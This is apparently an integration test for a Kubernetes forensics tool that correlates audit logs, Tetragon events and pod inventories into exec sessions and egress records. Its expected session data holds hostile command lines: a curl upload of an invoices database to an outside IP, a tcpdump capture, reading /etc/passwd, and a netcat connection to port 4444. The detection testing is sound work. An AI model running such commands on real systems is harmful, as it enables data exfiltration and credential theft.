//! Correlation end to end: inventories, pods, egress and exec sessions from the producers'
//! real formats, ingested through the `ktrail` binary and answered by `ktrail sql`.

use std::path::Path;
use std::process::{Command, Output};

fn ktrail(data: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ktrail"))
        .arg("--data")
        .arg(data)
        .args(args)
        .output()
        .expect("run ktrail")
}

fn sql_json(data: &Path, sql: &str) -> Vec<serde_json::Value> {
    let o = ktrail(data, &["sql", "--format", "json", sql]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    serde_json::from_slice(&o.stdout).expect("json array")
}

fn ingest(data: &Path, paths: &[&str]) {
    let mut args = vec!["ingest"];
    args.extend_from_slice(paths);
    let o = ktrail(data, &args);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(!err.contains("rejected 1"), "{err}");
}

const AUDIT: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/data/exec_scenario/audit.jsonl"
);
const TETRAGON: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/data/exec_scenario/tetragon.jsonl"
);
const INVENTORY: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/ingest/tests/data/kubectl_get_pods_services_nodes.json"
);

fn strings(v: &serde_json::Value) -> Vec<String> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap().to_string())
        .collect()
}

/// Two concurrent `kubectl exec -- sh` sessions in one container: each gets its own user,
/// processes and connections; the pairing of requests to shells is ambiguous (same command,
/// seconds apart), which shows as confidence 0.5, not as a random pick.
fn check_sessions(data: &Path) {
    let rows = sql_json(
        data,
        "SELECT session_id, k8s_user, source_ips, namespace, pod, container_name, command, \
         confidence, processes, connections, process_count, ts_end FROM exec_sessions ORDER BY ts",
    );
    assert_eq!(rows.len(), 2, "{rows:?}");
    let (a, b) = (&rows[0], &rows[1]);
    assert_eq!(a["session_id"], "9b3c6a1e-0f43-4d7e-a5c2-1d8e7f6a5b4c");
    assert_eq!(a["k8s_user"], "mallory@example.com");
    assert_eq!(strings(&a["source_ips"]), ["203.0.113.77"]);
    assert_eq!(a["pod"], "invoice-api-7d9f8b6c5-abc12");
    assert_eq!(a["container_name"], "invoice-api");
    assert_eq!(a["command"], "sh");
    assert_eq!(
        strings(&a["processes"]),
        [
            "/bin/sh",
            "/usr/bin/curl -s -X POST --data-binary @/data/invoices.db http://198.51.100.23/upload",
            "/usr/sbin/tcpdump -i any -w /tmp/cap.pcap port 5432",
        ]
    );
    assert_eq!(strings(&a["connections"]), ["198.51.100.23:80"]);
    // The shell's exit is the session's last activity.
    assert_eq!(a["ts_end"], "2026-11-26T10:01:00Z");
    assert_eq!(b["k8s_user"], "bob@example.com");
    assert_eq!(
        strings(&b["processes"]),
        [
            "/bin/sh",
            "/bin/cat /etc/passwd",
            "/usr/bin/nc -w 3 203.0.113.9 4444"
        ]
    );
    assert_eq!(strings(&b["connections"]), ["203.0.113.9:4444"]);
    for r in [a, b] {
        assert_eq!(r["confidence"], 0.5, "{r}");
    }
    // The container's own process and its database connection belong to no session.
    let all: Vec<String> = rows.iter().flat_map(|r| strings(&r["processes"])).collect();
    assert!(!all.iter().any(|p| p.contains("invoice-api --listen")));
}

#[test]
fn exec_sessions_from_audit_and_tetragon_in_either_order() {
    let dir = tempfile::tempdir().unwrap();
    let first = dir.path().join("audit-first");
    ingest(&first, &[AUDIT]);
    ingest(&first, &[TETRAGON]);
    check_sessions(&first);
    let second = dir.path().join("runtime-first");
    ingest(&second, &[TETRAGON]);
    ingest(&second, &[AUDIT]);
    check_sessions(&second);
    // Filters reach the requests: one user's sessions only.
    let rows = sql_json(
        &second,
        "SELECT session_id FROM exec_sessions WHERE k8s_user = 'bob@example.com'",
    );
    assert_eq!(rows.len(), 1);
    assert_eq!(
        rows[0]["session_id"],
        "4e2d1c0b-9a87-4f65-b432-10fedcba9876"
    );
}

#[test]
fn inventory_pods_and_egress() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("store");
    ingest(&data, &[INVENTORY, TETRAGON]);
    let pods = sql_json(
        &data,
        "SELECT namespace, pod, workload_kind, workload_name, pod_ip, node, container_ids, live \
         FROM pods ORDER BY namespace, pod",
    );
    let names: Vec<&str> = pods.iter().map(|p| p["pod"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        [
            "invoice-api-7d9f8b6c5-abc12",
            "ledger-0",
            "ledger-backup-29345760-x7k2p",
            "web-5c6d7e8f9-q2w3e"
        ]
    );
    assert_eq!(pods[0]["workload_kind"], "Deployment");
    assert_eq!(pods[0]["workload_name"], "invoice-api");
    assert_eq!(pods[0]["pod_ip"], "10.244.1.17");
    assert_eq!(pods[2]["workload_kind"], "CronJob");
    assert_eq!(strings(&pods[1]["container_ids"]).len(), 2);
    assert_eq!(pods[0]["live"], true);

    // Known networks make a destination allow-listed.
    std::fs::write(
        data.join("known_networks.json"),
        r#"[{"cidr": "203.0.113.0/24", "label": "partner"}]"#,
    )
    .unwrap();
    let egress = sql_json(
        &data,
        "SELECT dst_ip, dst_class, dst_pod, dst_label FROM egress ORDER BY ts",
    );
    let classes: Vec<(&str, &str)> = egress
        .iter()
        .map(|e| {
            (
                e["dst_ip"].as_str().unwrap(),
                e["dst_class"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        classes,
        [
            ("198.51.100.23", "unknown"),
            ("203.0.113.9", "allowlisted"),
            ("10.244.2.9", "pod"),
        ]
    );
    assert_eq!(egress[2]["dst_pod"], "ledger-0");
    let rows = sql_json(
        &data,
        "SELECT cidr_contains('10.244.0.0/16', '10.244.2.9') AS a, is_private_ip('198.51.100.23') AS b, \
         json_get_str(raw, 'metadata', 'name') AS n FROM events WHERE kind = 'k8s_object' AND resource = 'nodes' LIMIT 1",
    );
    assert_eq!(rows[0]["a"], true);
    assert_eq!(rows[0]["b"], false);
    assert_eq!(rows[0]["n"], "worker-1");
}
